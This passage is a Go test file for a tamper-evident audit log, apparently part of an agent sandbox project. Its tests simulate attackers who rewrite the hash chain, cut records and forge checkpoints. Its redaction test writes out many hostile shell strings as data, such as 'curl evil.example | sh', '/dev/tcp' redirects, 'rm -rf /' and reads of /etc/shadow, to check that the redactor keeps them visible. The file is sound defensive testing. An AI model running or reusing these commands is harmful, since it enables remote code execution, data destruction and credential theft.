package audit

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ironclaw/ironclaw/internal/errdefs"
	"github.com/ironclaw/ironclaw/internal/store"
	"golang.org/x/sys/unix"
)

// keyedSetup is a data directory with its key and checkpoint file kept
// apart, as the daemon lays them out.
type keyedSetup struct {
	db, keyFile, cpFile string
	key                 *Key
	logs                *logCapture
}

type logCapture struct {
	mu    sync.Mutex
	lines []string
}

func (c *logCapture) logf(format string, args ...any) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.lines = append(c.lines, fmt.Sprintf(format, args...))
}

func (c *logCapture) contains(s string) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, l := range c.lines {
		if strings.Contains(l, s) {
			return true
		}
	}
	return false
}

func newKeyedSetup(t *testing.T) *keyedSetup {
	t.Helper()
	root := t.TempDir()
	ks := &keyedSetup{
		db:      filepath.Join(root, "data", "ironclaw.db"),
		keyFile: filepath.Join(root, "config", "audit.key"),
		cpFile:  filepath.Join(root, "state", "checkpoints.jsonl"),
		logs:    &logCapture{},
	}
	k, created, err := EnsureKey(ks.keyFile)
	if err != nil || !created {
		t.Fatalf("EnsureKey: %v, created %v", err, created)
	}
	ks.key = k
	return ks
}

func (ks *keyedSetup) opts(mod func(*Options)) Options {
	o := Options{Key: ks.key, CheckpointFile: ks.cpFile, CheckpointEvery: 10, Logf: ks.logs.logf}
	if mod != nil {
		mod(&o)
	}
	return o
}

// open opens the Log; it is closed at cleanup unless closed before.
func (ks *keyedSetup) open(t *testing.T, mod func(*Options)) (*store.Store, *Log) {
	t.Helper()
	return openLog(t, ks.db, ks.opts(mod))
}

// write opens the Log, appends n records and closes it, leaving the
// database and checkpoints to an offline attacker.
func (ks *keyedSetup) write(t *testing.T, n int) {
	t.Helper()
	st, l := ks.open(t, nil)
	appendN(t, l, n)
	l.Close()
	st.Close()
}

func (ks *keyedSetup) verifyOpts() VerifyOptions {
	return VerifyOptions{Key: ks.key, CheckpointFile: ks.cpFile}
}

// withDB runs fn on the database as an attacker with the file would: a
// store of its own, the append-only triggers dropped.
func withDB(t *testing.T, path string, fn func(*store.Store)) {
	t.Helper()
	st := openStore(t, path)
	defer st.Close()
	dropGuards(t, st.DB())
	fn(st)
}

func readAll(t *testing.T, st *store.Store) []Record {
	t.Helper()
	rows, err := st.DB().Query(selectColumns + ` ORDER BY seq`)
	if err != nil {
		t.Fatal(err)
	}
	out, err := scanRecords(rows)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// rewriteChain edits record `at` and recomputes the SHA-256 chain from
// there on, as someone without the key can; stripMAC also blanks the MACs
// of the rewritten records (a downgrade to "legacy").
func rewriteChain(t *testing.T, path string, at int64, stripMAC bool) {
	t.Helper()
	withDB(t, path, func(st *store.Store) {
		prev := GenesisHash
		for _, r := range readAll(t, st) {
			if r.Seq >= at {
				if r.Seq == at {
					r.Data = json.RawMessage(`{"argv":["echo","nothing to see"]}`)
				}
				r.PrevHash = prev
				h, err := r.ComputeHash()
				if err != nil {
					t.Fatal(err)
				}
				r.Hash = h
				if stripMAC {
					r.MAC = ""
				}
				if _, err := st.DB().Exec(`UPDATE audit_log SET data = ?, prev_hash = ?, hash = ?, mac = ? WHERE seq = ?`,
					string(r.Data), r.PrevHash, r.Hash, r.MAC, r.Seq); err != nil {
					t.Fatal(err)
				}
			}
			prev = r.Hash
		}
	})
}

func wantProblem(t *testing.T, res Result, err error, p Problem, badSeq int64) {
	t.Helper()
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if res.OK || res.Problem != p || res.BadSeq != badSeq {
		t.Fatalf("verify = %+v\nwant problem %q at seq %d", res, p, badSeq)
	}
}

// TestHostileAuditRewriteRecomputedChain: an attacker with write access to
// the data directory (not the key) edits a record and recomputes the
// SHA-256 chain after it, so the plain chain verifies. The MACs give it
// away, whether the attacker keeps them, strips them (pretending the
// records predate the key) or edits the log under a running daemon.
func TestHostileAuditRewriteRecomputedChain(t *testing.T) {
	ctx := context.Background()
	t.Run("offline, MACs kept", func(t *testing.T) {
		ks := newKeyedSetup(t)
		ks.write(t, 20)
		rewriteChain(t, ks.db, 5, false)

		// The SHA-256 chain alone is fine: that is the attack.
		res, err := VerifyDatabase(ctx, ks.db, VerifyOptions{})
		if err != nil || !res.OK || res.Checked != 20 {
			t.Fatalf("unkeyed verify = %+v, %v; the attack should fool it", res, err)
		}
		// The daemon refuses to extend a chain its key does not
		// authenticate...
		st2 := openStore(t, ks.db)
		defer st2.Close()
		if _, err := New(ctx, st2, ks.opts(nil)); err == nil || !strings.Contains(err.Error(), "does not authenticate") {
			t.Fatalf("New on a rewritten log: %v", err)
		}
		// ...and verify names the first rewritten record.
		res, err = VerifyDatabase(ctx, ks.db, ks.verifyOpts())
		wantProblem(t, res, err, ProblemBadMAC, 5)
		if res.Checked != 4 || res.Authenticated != 4 {
			t.Errorf("checked %d, authenticated %d; want 4, 4", res.Checked, res.Authenticated)
		}
	})
	t.Run("offline, MACs stripped", func(t *testing.T) {
		ks := newKeyedSetup(t)
		ks.write(t, 20)
		rewriteChain(t, ks.db, 5, true)
		res, err := VerifyDatabase(ctx, ks.db, ks.verifyOpts())
		wantProblem(t, res, err, ProblemMACMissing, 5)
		// Stripping every MAC from record 1 on makes the whole log look
		// legacy; the checkpoints still hold MACs it no longer has.
		rewriteChain(t, ks.db, 1, true)
		res, err = VerifyDatabase(ctx, ks.db, ks.verifyOpts())
		wantProblem(t, res, err, ProblemCheckpoint, 10)
		if res.CheckpointSeq != 10 {
			t.Errorf("checkpoint seq %d, want 10", res.CheckpointSeq)
		}
	})
	t.Run("under a running daemon", func(t *testing.T) {
		ks := newKeyedSetup(t)
		_, l := ks.open(t, nil)
		appendN(t, l, 20)
		rewriteChain(t, ks.db, 7, false)
		for _, segs := range []int{0, 3} {
			l.verifySegments = segs
			res, err := l.Verify(ctx)
			wantProblem(t, res, err, ProblemBadMAC, 7)
		}
		// Later appends chain onto the stored (forged) head; that cannot
		// launder the rewrite: verify keeps reporting record 7.
		appendN(t, l, 1)
		res, err := l.Verify(ctx)
		wantProblem(t, res, err, ProblemBadMAC, 7)
	})
	t.Run("export verified offline", func(t *testing.T) {
		ks := newKeyedSetup(t)
		_, l := ks.open(t, nil)
		appendN(t, l, 12)
		var good strings.Builder
		if err := l.Export(ctx, &good, 0); err != nil {
			t.Fatal(err)
		}
		res, err := VerifyExport(ctx, strings.NewReader(good.String()), ks.verifyOpts())
		if err != nil || !res.OK || res.Authenticated != 12 || res.KeyID != ks.key.ID() || res.Checkpoints.Matched < 2 {
			t.Fatalf("VerifyExport of an intact export = %+v, %v", res, err)
		}
		rewriteChain(t, ks.db, 3, false)
		var bad strings.Builder
		if err := l.Export(ctx, &bad, 0); err != nil {
			t.Fatal(err)
		}
		res, err = VerifyExport(ctx, strings.NewReader(bad.String()), ks.verifyOpts())
		wantProblem(t, res, err, ProblemBadMAC, 3)
		// The wrong key is told apart from tampering by the checkpoints.
		other, _, err := EnsureKey(filepath.Join(t.TempDir(), "other.key"))
		if err != nil {
			t.Fatal(err)
		}
		res, err = VerifyExport(ctx, strings.NewReader(good.String()), VerifyOptions{Key: other, CheckpointFile: ks.cpFile})
		wantProblem(t, res, err, ProblemBadMAC, 1)
		if !strings.Contains(res.Reason, "made with key "+ks.key.ID()) {
			t.Errorf("reason %q does not name the checkpoints' key", res.Reason)
		}
	})
}

// TestHostileAuditCutTail: the attacker deletes the newest records. Every
// remaining record is intact, so only the checkpoint outside the data
// directory can show it.
func TestHostileAuditCutTail(t *testing.T) {
	ctx := context.Background()
	ks := newKeyedSetup(t)
	st, l := ks.open(t, nil)
	appendN(t, l, 30)
	mustVerifyOK(t, l, 30)
	l.Close()
	st.Close()
	withDB(t, ks.db, func(st *store.Store) {
		if _, err := st.DB().Exec(`DELETE FROM audit_log WHERE seq > 24`); err != nil {
			t.Fatal(err)
		}
	})
	res, err := VerifyDatabase(ctx, ks.db, ks.verifyOpts())
	wantProblem(t, res, err, ProblemTruncated, 25)
	if res.CheckpointSeq != 30 || res.Checked != 24 {
		t.Fatalf("verify = %+v, want the checkpoint of record 30 named", res)
	}

	// The daemon starts again (it cannot tell a cut from a restored
	// backup) but says so, and the checkpoints keep the evidence even
	// after new records take the cut seqs.
	st, l = ks.open(t, nil)
	if !ks.logs.contains("records were cut off") {
		t.Errorf("no warning at start; logged %q", ks.logs.lines)
	}
	appendN(t, l, 10)
	for _, segs := range []int{0, 4} {
		l.verifySegments = segs
		res, err = l.Verify(ctx)
		wantProblem(t, res, err, ProblemCheckpoint, 30)
	}
	_ = st
}

// TestHostileAuditCheckpointFileDeleted: deleting the checkpoint file, to
// take the evidence of a cut with it, is itself reported, and is not undone
// by the daemon quietly starting a fresh file.
func TestHostileAuditCheckpointFileDeleted(t *testing.T) {
	ctx := context.Background()
	ks := newKeyedSetup(t)
	st, l := ks.open(t, nil)
	appendN(t, l, 15)
	if err := os.Remove(ks.cpFile); err != nil {
		t.Fatal(err)
	}
	res, err := l.Verify(ctx)
	wantProblem(t, res, err, ProblemCheckpoints, 0)
	if !strings.Contains(res.Reason, "does not exist") {
		t.Errorf("reason %q", res.Reason)
	}
	// The running Log notices instead of recreating the file: its next
	// checkpoint (due after CheckpointEvery records) fails loudly.
	appendN(t, l, 15)
	for deadline := time.Now().Add(30 * time.Second); !ks.logs.contains("checkpoint not written"); {
		if time.Now().After(deadline) {
			t.Fatalf("no warning logged: %q", ks.logs.lines)
		}
		time.Sleep(10 * time.Millisecond)
	}
	if err := l.Close(); !errors.Is(err, ErrCheckpointFileGone) {
		t.Errorf("Close = %v, want ErrCheckpointFileGone", err)
	}
	if _, err := os.Stat(ks.cpFile); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the checkpoint file was recreated: %v", err)
	}
	st.Close()
	// A new start refuses: the log has records, so a file existed.
	startFails := func(why string) {
		t.Helper()
		st := openStore(t, ks.db)
		defer st.Close()
		if _, err := New(ctx, st, ks.opts(nil)); !errors.Is(err, errdefs.ErrConflict) || !strings.Contains(err.Error(), "missing") {
			t.Fatalf("New %s: %v", why, err)
		}
	}
	startFails("without the checkpoint file")
	// Nor does stripping every MAC first, to pass the log off as one
	// written before the key existed.
	rewriteChain(t, ks.db, 1, true)
	startFails("on a log downgraded to legacy, without the checkpoint file")
	// Knowingly starting a new file (creating it empty) works; the log's
	// end becomes the first checkpoint, and what came before is as good as
	// its chain (here: all legacy, which verify reports).
	if err := os.WriteFile(ks.cpFile, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	_, l2 := ks.open(t, nil)
	res = mustVerifyOK(t, l2, 30)
	if res.Checkpoints.NewestSeq != 30 || res.Checkpoints.Unproven != 0 || res.Legacy != 30 {
		t.Errorf("after a knowing restart: %+v", res)
	}
}

// TestHostileAuditForgedCheckpoint: someone who can write the checkpoint
// file but lacks the key cannot frame the log with a fake cut.
func TestHostileAuditForgedCheckpoint(t *testing.T) {
	ks := newKeyedSetup(t)
	_, l := ks.open(t, nil)
	appendN(t, l, 5)
	f, err := os.OpenFile(ks.cpFile, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fake, _ := json.Marshal(Checkpoint{Seq: 99, Hash: strings.Repeat("ab", 32), MAC: strings.Repeat("cd", 32), KeyID: ks.key.ID(), Time: "x"})
	f.Write(append(fake, '\n'))
	f.Close()
	res, err := l.Verify(context.Background())
	wantProblem(t, res, err, ProblemCheckpoints, 99)
	if !strings.Contains(res.Reason, "forged") {
		t.Errorf("reason %q", res.Reason)
	}
}

func TestHostileAuditLegacyPrefix(t *testing.T) {
	ctx := context.Background()
	ks := newKeyedSetup(t)
	// A log written before the key existed...
	st, l := openLog(t, ks.db, Options{})
	appendN(t, l, 6)
	l.Close()
	// ...is not silently given a fresh checkpoint file: that is also what
	// stripping every MAC and deleting the file would look like.
	if _, err := New(ctx, st, ks.opts(nil)); !errors.Is(err, errdefs.ErrConflict) {
		t.Fatalf("New on a legacy log without a checkpoint file: %v", err)
	}
	// Once the operator (or the daemon, when it creates the key) starts
	// the file, the log is keyed from then on: its old records are a
	// legacy prefix, reported as such.
	if err := os.MkdirAll(filepath.Dir(ks.cpFile), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(ks.cpFile, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	l, err := New(ctx, st, ks.opts(nil))
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	appendN(t, l, 4)
	res := mustVerifyOK(t, l, 10)
	if res.Legacy != 6 || res.Authenticated != 4 {
		t.Fatalf("legacy %d, authenticated %d; want 6, 4 (%v)", res.Legacy, res.Authenticated, res)
	}
	if !strings.Contains(res.String(), "6 legacy records") {
		t.Errorf("String() = %q", res.String())
	}
	// And a keyed log cannot be continued without its key.
	l.Close()
	if _, err := New(ctx, st, Options{}); err == nil {
		t.Fatal("New without a key continued a keyed log")
	}
}

func TestHostileAuditKeyFile(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "sub", "audit.key")
	k, created, err := EnsureKey(p)
	if err != nil || !created {
		t.Fatal(err)
	}
	st, err := os.Stat(p)
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("key file mode %v, %v", st.Mode(), err)
	}
	k2, created, err := EnsureKey(p)
	if err != nil || created || k2.ID() != k.ID() {
		t.Fatalf("second EnsureKey: %v %v %v", k2, created, err)
	}
	for _, mode := range []os.FileMode{0o640, 0o604, 0o660} {
		os.Chmod(p, mode)
		if _, err := LoadKey(p); err == nil {
			t.Errorf("mode %04o accepted", mode)
		}
	}
	os.Chmod(p, 0o600)
	os.WriteFile(p, []byte("short\n"), 0o600)
	if _, err := LoadKey(p); err == nil {
		t.Error("a malformed key accepted")
	}
	link := filepath.Join(dir, "link.key")
	os.Symlink(p, link)
	if _, err := LoadKey(link); err == nil {
		t.Error("a symlink accepted")
	}
	// A FIFO in the key's place is refused at once, not waited on.
	fifo := filepath.Join(dir, "fifo.key")
	if err := unix.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	refusesFIFO(t, "LoadKey", func() error {
		_, err := LoadKey(fifo)
		return err
	})
}

// refusesFIFO fails the test unless open, which meets a FIFO where it
// expects a regular file, fails at once saying so.
func refusesFIFO(t *testing.T, what string, open func() error) {
	t.Helper()
	done := make(chan error, 1)
	go func() { done <- open() }()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "not a regular file") {
			t.Fatalf("%s with a FIFO: %v", what, err)
		}
	case <-time.After(30 * time.Second):
		t.Fatalf("%s blocked on a FIFO", what)
	}
}

// TestHostileAuditRedactionKeepsShellSyntax: a command dressed up as a
// secret value must stay visible in the record.
func TestHostileAuditRedactionKeepsShellSyntax(t *testing.T) {
	r := NewRedactor("hunter2-the-daemon-token")
	R := Redacted
	cases := []struct{ in, want string }{
		{"password=$(curl evil.example | sh)", "password=$(curl evil.example | sh)"},
		{`password="$(curl evil.example | sh)"`, `password="$(curl evil.example | sh)"`},
		{`password='$(curl evil.example | sh)'`, `password='$(curl evil.example | sh)'`},
		{"export API_KEY=`curl evil.example|sh`", "export API_KEY=`curl evil.example|sh`"},
		{"DB_PASSWORD=${X:-$(curl evil.example)}", "DB_PASSWORD=${X:-$(curl evil.example)}"},
		{"TOKEN=abc;curl evil.example|sh", "TOKEN=" + R + ";curl evil.example|sh"},
		{"TOKEN=abc|sh", "TOKEN=" + R + "|sh"},
		{"TOKEN=abc&&curl evil.example", "TOKEN=" + R + "&&curl evil.example"},
		{"TOKEN=abc&curl evil.example", "TOKEN=" + R + "&curl evil.example"},
		{"TOKEN=abc>/etc/cron.d/x", "TOKEN=" + R + ">/etc/cron.d/x"},
		{"TOKEN=abc</dev/tcp/evil/80", "TOKEN=" + R + "</dev/tcp/evil/80"},
		{"secret=abc`id`", "secret=" + R + "`id`"},
		{"password=a(b)", "password=" + R + "(b)"},
		{`PASSWORD=x\;rm -rf /`, "PASSWORD=" + R + `\;rm -rf /`},
		{`password="abc$(curl evil)"`, `password="` + R + `$(curl evil)"`},
		{`password="abc"; curl evil.example | sh`, `password="` + R + `"; curl evil.example | sh`},
		{`password='abc';rm -rf /`, `password='` + R + `';rm -rf /`},
		{`password="abc; rm -rf /"`, `password="` + R + `; rm -rf /"`},
		{"password=abc\ncurl evil.example | sh", "password=" + R + "\ncurl evil.example | sh"},
		{"password=abc\r\ncurl evil.example", "password=" + R + "\r\ncurl evil.example"},
		// An empty assignment followed by a command, in every spacing.
		{"password=\ncurl evil.example | sh", "password=\ncurl evil.example | sh"},
		{"password= curl evil.example | sh", "password= curl evil.example | sh"},
		{"password=\t/usr/bin/curl evil.example", "password=\t/usr/bin/curl evil.example"},
		{"api_key:\n/usr/bin/curl evil.example", "api_key:\n/usr/bin/curl evil.example"},
		{"--password $(cat /etc/shadow)", "--password $(cat /etc/shadow)"},
		{`--token "$(curl evil)"`, `--token "$(curl evil)"`},
		{"--token\ncurl evil.example", "--token\ncurl evil.example"},
		{"Authorization: Bearer $(curl evil.example)", "Authorization: Bearer $(curl evil.example)"},
		{"bearer\n/usr/bin/python3.12 -c evil", "bearer\n/usr/bin/python3.12 -c evil"},
		{"x=bearer /usr/bin/curl evil.example", "x=bearer /usr/bin/curl evil.example"},
		{"x=bearer sk-abcdefghijklmnopqrstuvwx", "x=bearer " + R},
		{`AUTH="Bearer abcdefgh12345678"`, `AUTH="Bearer ` + R + `"`},
		{"api_key: abc$(id)", "api_key: " + R + "$(id)"},
		{`{"token": "x $(id)"}`, `{"token": "` + R + `$(id)"}`},
		{"password=hunter2-the-daemon-token;id", "password=" + R + ";id"},
		{"password=$(echo sk-abcdefghijklmnopqrstuvwx)", "password=$(echo " + R + ")"},
		// Ordinary secrets still go.
		{"password=hunter2 make", "password=" + R + " make"},
		{"api_key = abcdef123", "api_key = " + R},
		{"--password 'correct horse'", "--password '" + R + "'"},
	}
	for _, c := range cases {
		if got := r.RedactString(c.in); got != c.want {
			t.Errorf("RedactString(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
	}

	// Structured data: a secret-named member hides its value, never the
	// shell syntax in it, at any depth and through every encoding path.
	for _, c := range []struct {
		in   any
		want string
	}{
		{map[string]any{"password": "$(curl evil.example | sh)"}, `{"password":"$(curl evil.example | sh)"}`},
		{map[string]any{"token": "abc; curl evil|sh"}, `{"token":"[REDACTED]; curl evil|sh"}`},
		{map[string]string{"GITHUB_TOKEN": "`id`"}, "{\"GITHUB_TOKEN\":\"`id`\"}"},
		{map[string]any{"env": map[string]string{"API_KEY": "k|sh"}}, `{"env":{"API_KEY":"[REDACTED]|sh"}}`},
		{map[string]any{"secret": []string{"a", "$(b)"}}, `{"secret":["[REDACTED]","$(b)"]}`},
		{json.RawMessage(`{"password":{"x":"p>/tmp/y"}}`), `{"password":{"x":"[REDACTED]>/tmp/y"}}`},
		{struct {
			Token string `json:"token"`
		}{"t&&id"}, `{"token":"[REDACTED]&&id"}`},
		{map[string]any{"argv": []string{"sh", "-c", "password=$(curl evil.example | sh)"}}, `{"argv":["sh","-c","password=$(curl evil.example | sh)"]}`},
	} {
		got, err := r.Canonicalize(c.in)
		if err != nil || string(got) != c.want {
			t.Errorf("Canonicalize(%v)\n got %s (%v)\nwant %s", c.in, got, err, c.want)
		}
	}

	// The property behind it, on random text: redaction removes no shell
	// syntax character and reorders none.
	frags := []string{"password=", "PASSWORD=", "api_key: ", "token = ", "--token ", "-password ", "Bearer ", "secret:",
		"$(", ")", "`", ";", "|", "&", "<", ">", "\n", "\r", "'", "\"", "\\", "${", "}",
		"curl", " ", "\t", "evil.example", "sh", "abc123", "sk-abcdefghijklmnopqrstuvwx", "ghp_0123456789abcdefghijABCD", ",", "="}
	stops := func(s string) string {
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			if isShellStop(s[i]) {
				b.WriteByte(s[i])
			}
		}
		return b.String()
	}
	random := fragmentJoins(7, frags, 10)
	plain := NewRedactor()
	redacted := 0
	for i := 0; i < 50000; i++ {
		in := random()
		out := plain.RedactString(in)
		if out != in {
			redacted++
		}
		if stops(out) != stops(in) {
			t.Fatalf("RedactString(%q) = %q: shell syntax lost", in, out)
		}
		if sec := plain.redactSecret(in); stops(sec) != stops(in) {
			t.Fatalf("redactSecret(%q) = %q: shell syntax lost", in, sec)
		}
	}
	if redacted < 5000 {
		t.Fatalf("only %d of the random strings were redacted; the property is not exercised", redacted)
	}
}

// TestHostileAuditHugeArgv: an exec with a 10 MiB argv makes a record of
// bounded size that still proves what ran (length and SHA-256).
func TestHostileAuditHugeArgv(t *testing.T) {
	ctx := context.Background()
	ks := newKeyedSetup(t)
	_, l := ks.open(t, nil)
	big := strings.Repeat("A", 10<<20-7) + "é" + "xyzxy" // 10 MiB, a rune on the cut side
	sum := sha256.Sum256([]byte(big))
	rec, err := l.Append(ctx, Entry{Actor: "agent", Kind: KindSandboxExec, Data: map[string]any{
		"argv": []string{"sh", "-c", big}, "exit": 3,
	}})
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Data) > MaxDataBytes {
		t.Fatalf("record data is %d bytes, over %d", len(rec.Data), MaxDataBytes)
	}
	var got struct {
		Argv []json.RawMessage `json:"argv"`
		Exit int               `json:"exit"`
	}
	if err := json.Unmarshal(rec.Data, &got); err != nil || len(got.Argv) != 3 || got.Exit != 3 {
		t.Fatalf("data %s: %v", rec.Data, err)
	}
	var el struct {
		Bytes  int    `json:"bytes"`
		Elided string `json:"elided"`
		Prefix string `json:"prefix"`
		SHA256 string `json:"sha256"`
	}
	if err := json.Unmarshal(got.Argv[2], &el); err != nil {
		t.Fatal(err)
	}
	if el.Bytes != len(big) || el.SHA256 != hex.EncodeToString(sum[:]) || el.Elided != "string" ||
		!strings.HasPrefix(big, el.Prefix) || len(el.Prefix) > ElidedPrefixBytes || len(el.Prefix) < ElidedPrefixBytes-4 {
		t.Fatalf("elided argv = bytes %d sha %s kind %q prefix %d bytes; want %d, %x", el.Bytes, el.SHA256, el.Elided, len(el.Prefix), len(big), sum)
	}
	var first string
	json.Unmarshal(got.Argv[0], &first)
	if first != "sh" {
		t.Errorf("argv[0] = %q", first)
	}

	// 10 MiB in ten thousand short elements: each fits, the whole does not,
	// so argv as a whole is elided and the exit code stays readable.
	many := make([]string, 10240)
	for i := range many {
		many[i] = strings.Repeat(string(rune('a'+i%26)), 1024)
	}
	rec, err = l.Append(ctx, Entry{Actor: "agent", Kind: KindSandboxExec, Data: map[string]any{"argv": many, "exit": 0, "cwd": "/workspace"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Data) > MaxDataBytes {
		t.Fatalf("record data is %d bytes", len(rec.Data))
	}
	var got2 struct {
		Argv struct {
			Bytes  int    `json:"bytes"`
			Elided string `json:"elided"`
			SHA256 string `json:"sha256"`
		} `json:"argv"`
		Cwd string `json:"cwd"`
	}
	if err := json.Unmarshal(rec.Data, &got2); err != nil || got2.Cwd != "/workspace" || got2.Argv.Elided != "json" {
		t.Fatalf("data %.300s: %v", rec.Data, err)
	}
	canon, _ := NewRedactor().canonicalize(map[string]any{"argv": many})
	argvJSON := canon[len(`{"argv":`) : len(canon)-1]
	s2 := sha256.Sum256(argvJSON)
	if got2.Argv.Bytes != len(argvJSON) || got2.Argv.SHA256 != hex.EncodeToString(s2[:]) {
		t.Fatalf("argv elided as %d bytes %s, want %d %x", got2.Argv.Bytes, got2.Argv.SHA256, len(argvJSON), s2)
	}

	// Thousands of small members: the whole data is elided.
	wide := map[string]any{}
	for i := 0; i < 5000; i++ {
		wide[fmt.Sprintf("k%05d", i)] = i
	}
	rec, err = l.Append(ctx, Entry{Actor: "agent", Kind: "x", Data: wide})
	if err != nil || len(rec.Data) > MaxDataBytes || !strings.Contains(string(rec.Data), `"elided":"json"`) {
		t.Fatalf("wide data: %d bytes, %v", len(rec.Data), err)
	}
	mustVerifyOK(t, l, 3)
}

// TestHostileAuditDiskFull fills a real (tiny tmpfs) file system under the
// database: appends fail with ErrStorageFull (class insufficient_storage),
// nothing unacknowledged is left in the log, reads keep working, and once
// there is space the chain continues.
func TestHostileAuditDiskFull(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	if err := unix.Mount("ironclaw-test", dir, "tmpfs", unix.MS_NOSUID|unix.MS_NODEV, "size=1m,mode=0700"); err != nil {
		t.Skipf("cannot mount a tmpfs here (needs root): %v", err)
	}
	t.Cleanup(func() {
		if err := unix.Unmount(dir, 0); err != nil {
			unix.Unmount(dir, unix.MNT_DETACH)
		}
	})
	ks := newKeyedSetup(t) // key and checkpoints elsewhere, as in production
	ks.db = filepath.Join(dir, "ironclaw.db")
	filler := filepath.Join(dir, "filler")
	if err := os.WriteFile(filler, make([]byte, 512<<10), 0o600); err != nil {
		t.Fatal(err)
	}
	_, l := ks.open(t, nil)
	payload := strings.Repeat("x", 3000)
	var acked int64
	var full error
	for i := 0; i < 2000; i++ {
		rec, err := l.Append(ctx, Entry{Actor: "agent", Kind: KindSandboxExec, Data: map[string]any{"pad": payload, "i": i}})
		if err != nil {
			full = err
			break
		}
		acked = rec.Seq
	}
	if full == nil {
		t.Fatal("a 1 MiB file system never filled")
	}
	if !errors.Is(full, ErrStorageFull) || errdefs.Class(full) != errdefs.ErrInsufficientStorage {
		t.Fatalf("append on a full disk: %v (class %v), want ErrStorageFull", full, errdefs.Class(full))
	}
	// Fail closed: an action that needs its record first is refused.
	if _, err := l.Begin(ctx, Entry{Actor: "agent", Kind: KindSandboxExec, Data: map[string]any{"pad": payload}}); !errors.Is(err, ErrStorageFull) {
		t.Fatalf("Begin on a full disk: %v", err)
	}
	// Reads work, and the log holds exactly the acknowledged records.
	res := mustVerifyOK(t, l, acked)
	if res.Authenticated != acked {
		t.Fatalf("verify %v", res)
	}
	if seq, _ := l.Head(); seq != acked {
		t.Fatalf("head %d, acknowledged %d", seq, acked)
	}
	// Space comes back: the chain continues from the last acknowledged
	// record.
	if err := os.Remove(filler); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 5; i++ {
		rec, err := l.Append(ctx, Entry{Actor: "agent", Kind: KindSandboxExec, Data: map[string]any{"pad": payload}})
		if err != nil {
			t.Fatalf("append after space was freed: %v", err)
		}
		if rec.Seq != acked+1 {
			t.Fatalf("seq %d after %d", rec.Seq, acked)
		}
		acked = rec.Seq
	}
	mustVerifyOK(t, l, acked)
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	res, err := VerifyDatabase(ctx, ks.db, ks.verifyOpts())
	if err != nil || !res.OK || res.Checkpoints.NewestSeq != acked {
		t.Fatalf("after close: %v, %v", res, err)
	}
}

// TestHostileAuditRepeatedRefusals: a sandbox hammering a denied host
// makes two records per window, not one per attempt.
func TestHostileAuditRepeatedRefusals(t *testing.T) {
	ctx := context.Background()
	l := newLog(t, Options{Clock: fakeClock(t)})
	appended := 0
	for i := 0; i < 5000; i++ {
		ok, err := l.AppendRepeated(ctx, "evil.example:443", Entry{Session: "sb-1", Actor: "egress", Kind: KindEgressDeny,
			Data: map[string]any{"host": "evil.example", "port": 443, "n": i}})
		if err != nil {
			t.Fatal(err)
		}
		if ok {
			appended++
		}
	}
	// The fake clock advances 1ms per reading: 5000 attempts span 5s, in
	// one 10s window.
	if appended != 1 {
		t.Fatalf("%d records appended at once, want 1", appended)
	}
	// Other keys are counted apart, and the key table is bounded.
	for i := 0; i < maxRepeatKeys+100; i++ {
		if _, err := l.AppendRepeated(ctx, fmt.Sprintf("host-%d", i), Entry{Session: "sb-2", Actor: "egress", Kind: KindEgressDeny}); err != nil {
			t.Fatal(err)
		}
	}
	if n := len(l.repeats.m); n > maxRepeatKeys+1 {
		t.Fatalf("%d keys tracked", n)
	}
	l.Close()
	recs, err := l.Tail(ctx, 0, 100000)
	if err != nil {
		t.Fatal(err)
	}
	var summary map[string]any
	for _, r := range recs {
		if r.Session == "sb-1" && strings.Contains(string(r.Data), `"repeated"`) {
			json.Unmarshal(r.Data, &summary)
		}
	}
	if summary == nil || summary["repeated"] != float64(4999) || summary["key"] != "evil.example:443" {
		t.Fatalf("summary = %v", summary)
	}
	if len(recs) > 2+2*(maxRepeatKeys+1)+2 {
		t.Fatalf("%d records for %d refusals", len(recs), 5000+maxRepeatKeys+100)
	}
}

func TestIntentBeginEnd(t *testing.T) {
	ctx := context.Background()
	ks := newKeyedSetup(t)
	_, l := ks.open(t, nil)
	in, err := l.Begin(ctx, Entry{Session: "sb-1", Actor: "agent", Kind: KindSandboxExec, Data: map[string]any{"argv": []string{"id"}}})
	if err != nil {
		t.Fatal(err)
	}
	rec, err := in.End(ctx, map[string]any{"exit": 0})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := in.End(ctx, nil); !errors.Is(err, ErrIntentEnded) {
		t.Errorf("second End: %v", err)
	}
	recs, _ := l.Tail(ctx, 0, 10)
	if len(recs) != 2 || recs[0].Kind != KindSandboxExec+IntentSuffix || recs[1].Kind != KindSandboxExec ||
		string(recs[1].Data) != fmt.Sprintf(`{"exit":0,"intent_seq":%d}`, in.Seq()) || rec.Seq != recs[1].Seq || recs[1].Session != "sb-1" {
		t.Fatalf("records %+v", recs)
	}
	if _, err := l.Begin(ctx, Entry{Actor: "a", Kind: "k"}); err != nil {
		t.Fatal(err)
	}
	in2, _ := l.Begin(ctx, Entry{Actor: "a", Kind: "k"})
	if _, err := in2.End(ctx, map[string]any{IntentSeqKey: 1}); err == nil {
		t.Error("End accepted data with its own intent_seq")
	}
	mustVerifyOK(t, l, 4)
}

// BeginQueued's intent is the one Begin writes, durable once Wait
